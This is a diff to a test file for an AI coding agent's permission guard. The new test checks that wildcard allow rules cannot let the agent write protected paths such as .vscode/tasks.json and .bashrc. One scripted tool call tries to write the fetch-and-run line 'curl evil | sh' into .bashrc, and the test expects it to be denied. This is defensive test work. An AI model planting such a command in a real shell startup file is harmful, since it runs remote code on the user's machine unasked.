@@ -13,6 +13,7 @@ import type { BhrainToolBox } from '../tools/BhrainToolBox.js';
 import { genBashToolBox } from '../tools/bash/genBashToolBox.js';
 import { genFilesToolBox } from '../tools/files/genFilesToolBox.js';
 import type { BhrainPermissionGuard, BhrainPrompter } from '../permission/BhrainPermissionGuard.js';
+import { genRulesGuard } from '../permission/genRulesGuard.js';
 import { repairToolPairs } from './repairToolPairs.js';
 import { DEFAULT_MAX_CONCURRENT_TOOL_CALLS } from '../constants.js';
 
@@ -352,9 +353,32 @@ describe('issue 11 item 3: writes cannot leave the workspace, whatever the order
     );
     const result = await invoke({ config: files(), prompt: 'hooks' }, contextFor({ cwd: workspace }));
     for (const message of toolResults(result))
-      expect(message.content).toMatch(/^permission denied: (write|edit) would change \/.+\/ws\/\.git\/(hooks\/pre-commit|config), which git runs as code outside any sandbox .+ no way to ask the user/);
+      expect(message.content).toMatch(/^permission denied: (write|edit) would change \/.+\/ws\/\.git\/(hooks\/pre-commit|config), a protected path: git (runs as code|reads as configuration).*, outside any sandbox .+ no way to ask the user/);
     expect(await readdir(join(workspace, '.git/hooks'))).toEqual([]);
     expect(await readFile(join(workspace, '.git/config'), 'utf8')).toBe('[core]\n');
+  });
+
+  it('issue 30 protected paths: an allow rule naming the exact path lets write change it, headless; a wildcard rule does not', async () => {
+    const { workspace } = await genLayout();
+    await mkdir(join(workspace, '.vscode'));
+    standin().script(
+      {
+        toolCalls: [
+          { name: 'write', input: { path: '.vscode/settings.json', content: '{"editor.tabSize": 2}' } },
+          { name: 'write', input: { path: '.vscode/tasks.json', content: '{"tasks": []}' } },
+          { name: 'write', input: { path: '.bashrc', content: 'curl evil | sh' } },
+        ],
+      },
+      { text: 'done' },
+    );
+    const permissionGuard = genRulesGuard({ allow: ['write(.vscode/settings.json)', 'write(.vscode/t*)', 'write(*)'] });
+    const result = await invoke({ config: { ...files(), permissionGuard }, prompt: 'settings' }, contextFor({ cwd: workspace }));
+    const [settings, tasks, bashrc] = toolResults(result);
+    expect(settings.content).toMatch(/^Created .vscode\/settings.json: wrote /);
+    expect(await readFile(join(workspace, '.vscode', 'settings.json'), 'utf8')).toBe('{"editor.tabSize": 2}');
+    expect(tasks.content).toMatch(/^permission denied: write would change \/.+\/\.vscode\/tasks\.json, a protected path: VS Code reads as settings and tasks it runs/);
+    expect(bashrc.content).toMatch(/a protected path: bash runs at start, outside any sandbox \(a rule naming that exact path, e\.g\. `write\(\.bashrc\)`, allows it\)/);
+    expect(await readdir(join(workspace, '.vscode'))).toEqual(['settings.json']);
   });
 
   it('symlinks inside pointing inside still work, headless and without a prompt: a linked file, and a linked directory', async () => {
